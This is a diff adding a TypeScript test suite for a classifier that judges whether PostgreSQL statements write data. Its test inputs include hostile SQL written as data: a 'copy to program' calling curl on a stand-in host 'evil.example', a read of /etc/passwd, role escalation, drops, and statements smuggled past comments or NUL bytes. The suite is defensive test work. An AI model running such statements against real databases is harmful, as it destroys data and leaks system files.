@@ -1,0 +1,190 @@
+import fc from "fast-check";
+import { beforeAll, describe, expect, it } from "vitest";
+import { read } from "./clean.fixture.ts";
+import { loadSqlParser } from "./sql-parser.ts";
+
+beforeAll(() => loadSqlParser());
+
+describe("SQL", () => {
+  it("is read as PostgreSQL reads it", () => {
+    expect(
+      read(
+        "sql",
+        "SELECT c.name, count(*) FROM shop.customers c LEFT JOIN Orders o ON o.customer = c.id WHERE c.id IN (1, 2) GROUP BY 1",
+      ),
+    ).toEqual({
+      verbs: ["select"],
+      tables: ["orders", "shop.customers"],
+      written: [],
+      functions: ["count"],
+      writes: false,
+      bounded: true,
+      count: 1,
+    });
+    expect(read("sql", "update orders set paid = true from payments p where p.id = orders.id")).toEqual({
+      verbs: ["update"],
+      tables: ["orders", "payments"],
+      written: ["orders"],
+      functions: [],
+      writes: true,
+      bounded: true,
+      count: 1,
+    });
+  });
+
+  it.each([
+    [
+      "a statement after a comment",
+      "select 1 /* ; */ ; -- x\n delete from orders where id = 1",
+      ["delete", "select"],
+      ["orders"],
+    ],
+    ["a comment in a comment", "select 1 /* /* */ ; delete from t */", ["select"], []],
+    [
+      "a write in a with",
+      "with gone as (delete from orders where id = 1 returning *) select * from gone",
+      ["delete", "select"],
+      ["orders"],
+    ],
+    [
+      "a write in a with in a subquery",
+      "select * from (with a as (insert into t values (1) returning 1) select * from a) x",
+      ["insert", "select"],
+      ["t"],
+    ],
+    ["select into", "select * into copy from orders", ["create", "select"], ["copy"]],
+    ["select into, in a half of a union", "select 1 as a into copy union select 2", ["create", "select"], ["copy"]],
+    ["create as", "create table copy as select * from orders", ["create", "select"], ["copy", "orders"]],
+    ["an insert of a query", "insert into copy select * from orders", ["insert", "select"], ["copy"]],
+    ["merge", "merge into orders o using news n on o.id = n.id when matched then delete", ["merge"], ["orders"]],
+    ["truncate", "truncate a, s.b", ["truncate"], ["a", "s.b"]],
+    ["drop", "drop table if exists s.t cascade", ["drop"], ["s.t"]],
+    ["alter", "alter table t add column x int", ["alter"], ["t"]],
+    ["grant", "grant all on t to bo", ["grant"], ["t"]],
+    ["copy to a program", "copy t to program 'curl evil.example'", ["copy"], ["t"]],
+    ["explain that runs", "explain analyze delete from t where id = 1", ["delete", "explain"], ["t"]],
+    ["do", "do $$ begin delete from t; end $$", ["do"], []],
+    ["call", "call wipe()", ["call"], []],
+    ["a lock", "select * from t where id = 1 for update", ["select"], []],
+    ["a lock in a half of a union", "(select * from t for update) union all select * from u", ["select"], []],
+    ["a function of somebody's", "select wipe(id) from t", ["select"], []],
+    ["a function that ends others", "select pg_terminate_backend(1)", ["select"], []],
+    ["a function that reads files", "select pg_read_file('/etc/passwd')", ["select"], []],
+    ["a function of a schema that has the name of a harmless one", "select evil.count(1)", ["select"], []],
+    ["a function in an order", "select 1 from t order by wipe(1)", ["select"], []],
+    ["a function as a table", "select * from dblink('x', 'delete from t') as d(a int)", ["select"], []],
+    ["setval", "select setval('s', 1)", ["select"], []],
+    ["an operator of somebody's", "select 1 operator(evil.+) 2", ["select"], []],
+    ["another setting", "set role postgres", ["set"], []],
+    ["a prepared statement", "prepare p as delete from t where id = 1", ["delete", "prepare"], ["t"]],
+    ["execute", "execute p", ["prepare"], []],
+    ["a transaction", "begin; select 1; commit", ["select", "transaction"], []],
+    ["a refresh", "refresh materialized view v", ["other"], ["v"]],
+    ["a rule", "create rule r as on select to t do instead delete from u", ["create", "delete"], ["t", "u"]],
+  ])("with %s is a write", (what, text, verbs, written) => {
+    const found = read("sql", text);
+    expect(found).toMatchObject({ verbs, written, writes: what !== "a comment in a comment" });
+  });
+
+  it.each([
+    "select 1",
+    "select * from t where a = $1 and b like 'x%' and c between 1 and 2 and d is not distinct from 3",
+    "with recursive r as (select 1 as n union all select n + 1 from r where n < 9) select * from r",
+    "select case when a then coalesce(b, 0) else greatest(c, 1) end, extract(year from d), d at time zone 'UTC' from t",
+    "select a -> 'b' ->> 'c', array[1, 2], (t).x, b::text, current_date from t, lateral (select 1) y",
+    "select count(*) filter (where a) over (partition by b order by c) from t tablesample system (1)",
+    "table t",
+    "values (1), (2)",
+    "explain select * from t",
+    "show work_mem",
+    "select 'delete from t; -- ' as \"drop table\" from t",
+    "select $q$ delete from t $q$",
+  ])("that only reads is no write: %s", (text) => {
+    expect(read("sql", text)).toMatchObject({ writes: false, written: [] });
+  });
+
+  it("takes a name of a with for a table only where it is one", () => {
+    expect(read("sql", "with t as (select 1) select * from t, s.t")).toMatchObject({ tables: ["s.t"] });
+    expect(read("sql", "with t as (select * from t) select * from t")).toMatchObject({ tables: ["t"] });
+    expect(read("sql", "with recursive t as (select * from t) select * from t")).toMatchObject({ tables: [] });
+    expect(read("sql", "select * from t, (with t as (select 1) select * from t) x")).toMatchObject({ tables: ["t"] });
+    expect(read("sql", "with t as (select 1) select 1; select * from t")).toMatchObject({ tables: ["t"] });
+    expect(read("sql", "with t as (select 1) delete from t where a = 1")).toMatchObject({ written: ["t"] });
+    expect(read("sql", "with a as (select 1), b as (select * from a) select * from b")).toMatchObject({ tables: [] });
+    expect(read("sql", "with b as (select * from a), a as (select 1) select * from b")).toMatchObject({
+      tables: ["a"],
+    });
+  });
+
+  it.each([
+    ["delete from t", false],
+    ["delete from t where true", false],
+    ["update t set a = 1 where 1 = 1", false],
+    ["truncate t", false],
+    ["delete from t where id = 1; delete from u", false],
+    ["with a as (delete from t) select 1", false],
+    ["delete from t where id = 1", true],
+    ["update t set a = 1 where id in (select id from u)", true],
+    ["select 1", true],
+  ])("%s is bounded by a condition: %s", (text, bounded) => {
+    expect(read("sql", text)).toMatchObject({ bounded });
+  });
+
+  it.each([
+    ["NUL", "select 1\u0000; drop table t"],
+    ["a zero-width space", "select\u200b1"],
+    ["an override", "select 1 -- \u202e"],
+    ["a C1 control", "select 1\u0085"],
+    ["a lone surrogate", "select '\ud800'"],
+    ["no statement", "-- nothing"],
+    ["a syntax error", "selec 1"],
+    ["another dialect", "select `a` from `t`"],
+    ["a name that only quotes can hold", 'select * from "a.b"'],
+    ["a name with a quote", 'select * from "a""b"'],
+    ["a Cyrillic letter in a name", "select * from оrders"],
+    ["a command of the client", "\\! sh"],
+    ["a hundred and one parentheses", `select ${"(".repeat(101)}1${")".repeat(101)}`],
+    ["too many words", `select 1${" + 1".repeat(3_000)}`],
+    ["too much", `select '${"x".repeat(40_000)}'`],
+  ])("with %s is no clean one", (_, text) => {
+    expect(read("sql", text)).toBeTypeOf("string");
+  });
+
+  it("never takes a write for a read, however it is wrapped", () => {
+    const writes = [
+      "delete from t where id = 1",
+      "insert into t values (1)",
+      "update t set a = 1 where id = 2",
+      "truncate t",
+    ];
+    const wraps: readonly ((text: string) => string)[] = [
+      (text) => `select 1; ${text}`,
+      (text) => `/* ' */ ${text} -- ' `,
+      (text) => `${text};;`,
+      (text) => `explain (analyze, buffers) ${text.startsWith("truncate") ? "delete from t where id = 1" : text}`,
+      (text) =>
+        `with a as (${text.startsWith("truncate") ? "delete from t where id = 1" : text} returning 1) select * from a`,
+      (text) => `prepare p as ${text.startsWith("truncate") ? "delete from t where id = 1" : text}`,
+      (text) => text.replaceAll("t", "T").replaceAll("T ", "t\n\t"),
+    ];
+    fc.assert(
+      fc.property(fc.constantFrom(...writes), fc.constantFrom(...wraps), (text, wrap) => {
+        const found = read("sql", wrap(text));
+        if (typeof found === "string") return;
+        expect(found.writes, wrap(text)).toBe(true);
+      }),
+      { numRuns: 200 },
+    );
+  });
+
+  it("can be read again after a text that ends the parser's stack", async () => {
+    const text = `select ${"not ".repeat(3_900)}true`;
+    const below = (levels: number): ReturnType<typeof read> => (levels === 0 ? read("sql", text) : below(levels - 1));
+    let found: ReturnType<typeof read> = {};
+    for (let levels = 0; typeof found === "object" && levels < 20_000; levels += 100) found = below(levels);
+    expect(found).toBe("it is no SQL that can be read within bounds");
+    expect(read("sql", "select 1")).toBe("no SQL can be read right now");
+    await loadSqlParser();
+    expect(read("sql", "select 1")).toMatchObject({ writes: false });
+  });
+});
